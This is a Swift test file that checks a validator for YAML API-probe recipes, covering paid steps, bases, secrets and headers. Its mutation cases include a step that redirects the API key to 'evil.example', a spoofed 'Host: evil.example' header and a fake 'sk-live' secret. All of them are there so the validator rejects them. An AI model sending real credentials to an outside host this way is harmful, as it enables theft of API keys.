import BillingTypes
import LiveProbe
import RateCatalogue
import Testing

@Suite("Mistakes in recipes")
struct RecipeProblemTests {
  static let mistakes: [(old: String, new: String, words: String)] = [
    (
      "worst_case:", "variables: {k: ACME_KEY}\nworst_case:",
      "'ACME_KEY' sounds like a secret; secrets stand in 'auth' alone, and in no word"
    ),
    (
      "get: /balance, save: {balance: /credits}}\n  - {step: prepare",
      "get: \"https://evil.example/x\", save: {balance: /credits}}\n  - {step: prepare",
      "step 'before' sends the key to 'evil.example'; list that host in 'follow_hosts', if it may have it"
    ),
    (
      "headers: {X-Version", "headers: {Host: evil.example, X-Version",
      "the header 'Host' is not a recipe's to set"
    ),
    (
      "role: prepare, post: /token", "role: prepare, post: /films",
      "step 'prepare' goes where the one that is paid does; it would cost too"
    ),
    (
      "base: https://api.acme.example", "base: https://api.acme.example?x=",
      "'https://api.acme.example?x=' is no base"
    ),
    (
      "probe: acme-films-generate", "probe: other",
      "'other' is in the file 'acme-films-generate.yaml'; a recipe is named as its file"
    ),
    (", paid: true", "", "a recipe has exactly one step that is 'paid'; here are 0"),
    (
      "role: prepare,", "role: prepare, paid: true,",
      "a recipe has exactly one step that is 'paid'; here are 2"
    ),
    ("role: submit,", "role: result,", "step 'submit' is paid; its role is 'submit'"),
    (
      "paid: true, post: /films", "paid: true, get: /films",
      "step 'submit' is paid; what is fetched with GET may be sent again"
    ),
    (
      "/films/{job|pct}\", every", "/films/{jbo|pct}\", every",
      "nothing says what '{jbo}' is before step 'status'; did you mean 'job'?"
    ),
    ("secret_words: [session]", "secret_words: [other]", "no step saves 'other'"),
    (
      "secret: ACME_KEY", "secret: sk-live-1234567890",
      "this is no name of an environment variable; write one such as OPENAI_API_KEY, never the secret itself"
    ),
    ("\"Bearer {secret}\"", "\"Bearer\"", "'Bearer' lacks '{secret}'"),
    (
      "base: https://api.acme.example", "base: http://api.acme.example",
      "'http://api.acme.example' is no base; write scheme and host, such as https://api.example.com"
    ),
    (
      "base: https://api.acme.example", "base: https://me@api.acme.example",
      "'https://me@api.acme.example' is no base; write scheme and host, such as https://api.example.com"
    ),
    ("state: {at: /state", "states: {at: /state", "unknown key 'states'; did you mean 'state'?"),
    (
      "save: {balance: /credits}}\n  - {step: prepare",
      "save: {rest: /credits}}\n  - {step: prepare", "step 'before' saves 'balance'"
    ),
    ("step: prepare,", "step: before,", "step 'before' is written twice"),
    (
      "get: /balance, save: {balance: /credits}, every",
      "get: balance, save: {balance: /credits}, every",
      "'balance' is not where a request goes; write a path, a whole address, or a word that a reply tells"
    ),
    ("worst_case: {amount: 0.50}", "worst_case: {amount: -1}", "'-1' must not be negative"),
    ("means: limit", "means: limits", "unknown value 'limits'; did you mean 'limit'?"),
    (
      "timeout: unknown,", "timeout: maybe,",
      "unknown value 'maybe'; legal are 'yes', 'no', 'unknown'"
    ),
  ]

  @Test("Each mistake is named, with its line", arguments: mistakes)
  func mistake(old: String, new: String, words: String) throws {
    do {
      _ = try SampleRecipe.recipe(old, new)
      Issue.record("nothing is wrong with \(new)")
    } catch let problems as DataProblems {
      let text = "\(problems)"
      #expect(text.contains(words), "\(text)")
      #expect(text.contains("acme-films-generate.yaml:"))
      #expect(!text.contains("sk-live"))
    }
  }

  @Test("The recipe without a mistake is read")
  func fine() throws {
    let recipe = try SampleRecipe.recipe()
    #expect(recipe.paidStep?.name == "submit")
    #expect(recipe.worstCase.decimalText == "0.5")
    #expect(
      recipe.runSteps.map(\.name) == ["before", "prepare", "submit", "status", "stop", "after"])
  }
}
